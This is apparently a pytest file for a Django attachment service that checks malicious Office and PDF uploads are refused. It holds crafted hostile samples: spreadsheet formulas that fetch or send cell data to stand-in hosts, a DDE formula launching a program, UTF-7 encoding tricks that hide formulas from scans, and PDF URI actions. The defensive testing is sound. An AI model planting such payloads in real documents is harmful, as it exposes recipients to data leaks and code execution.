"""What an attacker tried on attachments: parts that hide, removed files of the other side, codes, long forms, empty words."""

import zipfile
from datetime import timedelta
from io import BytesIO

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django_tasks_db.models import DBTaskResult
from documents import attached_files as files

from tansiq.documents import tasks
from tansiq.documents.models import Attachment, EditedMinutes, GivenText, Tag
from tansiq.documents.services import attachments as services
from tansiq.documents.services.attachments import attaching, looking
from tansiq.documents.services.attachments.tags import TagWordless
from tansiq.documents.services.templates import sweep_given
from tansiq_desk.attached import RefusedFileError, look

MEETING = "mtg-art-241229"
WHERE = {"subject_kind": "meeting", "subject_code": MEETING, "captions": {"en": "x"}}
FETCHING = (
    b'<w:body><w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://example.invalid/x&quot; "/></w:p>'
)


def text_of_word():
    return zipfile.ZipFile(BytesIO(files.word())).read("word/document.xml")


def begins_elsewhere(part):
    """Give a Word file whose text lies in another part, beside one that only seems to be it."""
    return files.changed(
        files.word(),
        {
            part: text_of_word().replace(b"<w:body>", FETCHING),
            "_rels/.rels": lambda it: it.replace(b"word/document.xml", part.encode()),
            "[Content_Types].xml": lambda it: it.replace(b"/word/document.xml", f"/{part}".encode()),
        },
    )


def foot_called(name):
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
    told = b'<Override PartName="/word/%b" ContentType="%b"/></Types>' % (name.encode(), kind)
    return files.changed(
        files.word(),
        {
            f"word/{name}": files.FIELD,
            "[Content_Types].xml": lambda it: it.replace(b"</Types>", told),
        },
    )


def sheet_with(formula):
    book = openpyxl.Workbook()
    book.active["A1"] = formula
    return files.bytes_of(book.save)


def sheet_written_as(change):
    """Give a sheet that fetches, its text written in a way that hides this from a look at its bytes."""
    return files.changed(sheet_with('=WEBSERVICE("http://x.invalid")'), {"xl/worksheets/sheet1.xml": change})


def declared(said):
    begin = f"<?xml version='1.0'{said}?>".encode()
    return lambda it: begin + it.replace(b"WEBSERVICE", b"WEB+AFM-ERVICE")


RELATION = files.RELATION.format("attachedTemplate").encode()
CALLED_ON_LEAVING = "/AA << /WC << /S /URI /URI (http://example.invalid) >> >>"
OPENS_AND_GOES_ON = (
    "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://example.invalid) >> >>"
)
REFUSED = {
    "relations in large letters": (
        lambda: files.changed(files.word(), {"word/_rels/settings.xml.RELS": RELATION}),
        "external",
    ),
    "relation outside in small letters": (
        lambda: files.changed(
            files.word(),
            {"word/_rels/settings.xml.rels": RELATION.replace(b'"External"', b'"external"')},
        ),
        "external",
    ),
    "two names that differ in case": (
        lambda: files.changed(files.word(), {"Word/Document.xml": text_of_word()}),
        "archive_names",
    ),
    "text in another part": (lambda: begins_elsewhere("doc/main.xml"), "broken_office"),
    "text in a part called otherwise": (lambda: begins_elsewhere("word/main.bin"), "broken_office"),
    "field in a part elsewhere": (
        lambda: files.changed(files.word(), {"doc/foot.xml": files.FIELD}),
        "external",
    ),
    "foot called otherwise": (lambda: foot_called("foot.bin"), "broken_office"),
    "two types at once": (
        lambda: files.changed(
            files.word(),
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<a/>",
                "META-INF/manifest.xml": b"<a/>",
            },
        ),
        "broken_office",
    ),
    "formula that fetches": (lambda: sheet_with('=_xlfn.WEBSERVICE("http://x.invalid/"&B1)'), "external"),
    "formula that shows a picture": (lambda: sheet_with('=IF(1,image ("http://x.invalid"))'), "external"),
    "formula that calls a program": (lambda: sheet_with("=cmd|'/c calc'!A0"), "external"),
    "formula of OpenDocument that fetches": (
        lambda: files.open_document(
            "spreadsheet", "<a xmlns:t='urn:t' t:formula='of:=COM.MICROSOFT.WEBSERVICE(\"x\")'/>"
        ),
        "external",
    ),
    "sheet in UTF-16 without a mark": (
        lambda: sheet_written_as(lambda it: it.decode().encode("utf-16-le")),
        "broken_office",
    ),
    "sheet in UTF-7": (lambda: sheet_written_as(declared(" encoding='utf-7'")), "broken_office"),
    "sheet in UTF-7 behind blanks": (
        lambda: sheet_written_as(declared(f"{' ' * 500}encoding='utf-7'")),
        "broken_office",
    ),
    "types in small letters": (
        lambda: files.changed(files.word(), {"word/a.xml": b"<!doctype a><a/>"}),
        "broken_office",
    ),
    "address called when a PDF is closed": (lambda: files.pdf(CALLED_ON_LEAVING), "active_pdf"),
    "opening that goes on elsewhere": (lambda: files.pdf(OPENS_AND_GOES_ON), "active_pdf"),
}


@pytest.mark.parametrize("tried", REFUSED)
def test_what_hides_is_found(tried):
    made, code = REFUSED[tried]

    with pytest.raises(RefusedFileError) as refused:
        look(made(), "a.docx")

    assert refused.value.code == code


@pytest.mark.parametrize(
    "formula",
    ['=SUM(A2:A9)&" a|b!"', "=HYPERLINK(B1)", "=IMAGINARY(1)", '=IF(A2="IMAGE(",1,2)', "='a b'!A1"],
)
def test_formula_that_only_reckons_stays(formula):
    assert look(sheet_with(formula), "a.xlsx").type == "xlsx"


def test_pdf_in_which_a_thing_is_called_as_actions_are_stays():
    assert look(files.pdf("/Names << /AA 3 0 R >> /OpenAction [3 0 R /Fit]"), "a.pdf").type == "pdf"


@pytest.mark.django_db
def test_removed_attachment_is_gone_for_whom_it_was_released_to(visit, person, at):
    director = person("director")
    kept = services.attach(name="canary.txt", content=b"a", owner="ly", by=director, at=at, **WHERE)
    services.release_attachment(code=kept.code, version=1, to=["dz"], by=director, at=at)
    other, address = visit("attache", "en"), f"/documents/attachments/{kept.code}/file"
    assert other.get(address).status_code == 200

    services.remove_attachment(code=kept.code, version=2, by=director, at=at)

    assert other.get(address).status_code == 404
    assert "canary.txt" not in other.get("/documents/attachments/removed").content.decode()
    assert "canary.txt" in visit("director", "en").get("/documents/attachments/removed").content.decode()


@pytest.mark.django_db
def test_code_is_found_by_how_subjects_begin_in_every_language_of_a_database(person, at):
    by = person("director")

    with CaptureQueriesContext(connection) as asked:
        codes = [services.attach(name="a.txt", content=it, by=by, at=at, **WHERE).code for it in (b"a", b"b")]

    assert [it[-4:] for it in codes] == ["-001", "-002"]
    of_journal = [
        it["sql"] for it in asked if '"core_journalline"."subject"' in it["sql"].partition("WHERE")[2]
    ]
    assert (len(of_journal), [it for it in of_journal if ">=" in it]) == (2, [])


@pytest.mark.django_db
def test_nothing_keeps_what_is_shown(visit, person, at):
    kept = services.attach(name="a.jpg", content=files.photograph(), by=person("director"), at=at, **WHERE)
    client = visit("director")

    for what in ("picture", "thumbnail", "file"):
        answer = client.get(f"/documents/attachments/{kept.code}/{what}")
        assert answer["Cache-Control"] == "private, no-store", what


def test_whoever_waits_for_others_is_told_so(monkeypatch):
    monkeypatch.setattr(looking.READER, "most_seconds", 0.001)

    with looking.READER.turn, pytest.raises(looking.FileRefused) as refused:
        looking.looked_at("a.txt", b"a")

    assert refused.value.code == "busy"


@pytest.mark.django_db
def test_form_that_takes_too_long_leaves_the_rest_of_its_files(visit, monkeypatch):
    monkeypatch.setattr(looking, "MOST_SECONDS_OF_A_FORM", -1)
    sent = {
        "role": "document",
        "rights": "own",
        "caption_en": "x",
        "chosen": SimpleUploadedFile("a.txt", b"a"),
    }

    answer = visit("director", "en").post(f"/documents/attachments/of/meeting/{MEETING}/", sent)

    assert "a.txt: The files before it took so long" in answer.content.decode()
    assert not Attachment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("word", ["\u200b", "\u202e", " - ", "."])
def test_words_say_something(word, person, at):
    with pytest.raises(TagWordless):
        services.add_tag(names={"en": word}, by=person("director"), at=at)
    with pytest.raises(TagWordless):
        services.add_tag(names={"ar": "الحدود", "en": word}, by=person("director"), at=at)
    with pytest.raises(attaching.CaptionMissing):
        services.attach(
            name="a.txt", content=b"a", by=person("director"), at=at, **{**WHERE, "captions": {"fr": word}}
        )
    assert (Tag.objects.count(), Attachment.objects.count()) == (0, 0)


@pytest.mark.django_db
def test_one_sweep_waits_however_often_something_is_removed(visit, person, at, monkeypatch):
    kept = services.attach(name="a.txt", content=b"a", by=person("director"), at=at, **WHERE)
    director, one = visit("director"), f"/documents/attachments/{kept.code}/"
    for version in (1, 3):
        director.post(f"{one}remove", {"version": version})
        director.post(f"{one}put-back", {"version": version + 1})
    director.post(f"{one}remove", {"version": 5})
    waiting = DBTaskResult.objects.filter(task_path=tasks.sweep.module_path)
    assert waiting.count() == 1

    waiting.update(status="RUNNING")
    tasks.sweep.func()  # it came too early: the next one is asked for
    assert waiting.filter(status="READY").get().run_after > Attachment.objects.get().kept_until
    waiting.filter(status="READY").delete()
    removed_at = Attachment.objects.get().removed_at
    monkeypatch.setattr(tasks, "moment_of_node", lambda: removed_at + timedelta(days=31))
    tasks.sweep.func()
    assert (Attachment.objects.count(), waiting.filter(status="READY").count()) == (0, 0)


@pytest.mark.django_db
def test_what_a_text_said_goes_after_a_year_unless_it_came_back(person, at):
    kept = services.attach(name="a.txt", content=b"a", by=person("director"), at=at, **WHERE)
    given = {
        key: GivenText.objects.create(
            key=key, kind="minutes", code=MEETING, version="1", languages="ar", paragraphs=[], parties="ly",
            by="director", at=at - timedelta(days=days),
        )
        for key, days in (("old", 366), ("back", 366), ("new", 364))
    }  # fmt: skip
    EditedMinutes.objects.create(
        attachment=kept, standing="given_here", given=given["back"], paragraphs=[], own={}
    )

    assert sweep_given(by=person("director"), at=at) == 1
    assert sorted(GivenText.objects.values_list("key", flat=True)) == ["back", "new"]
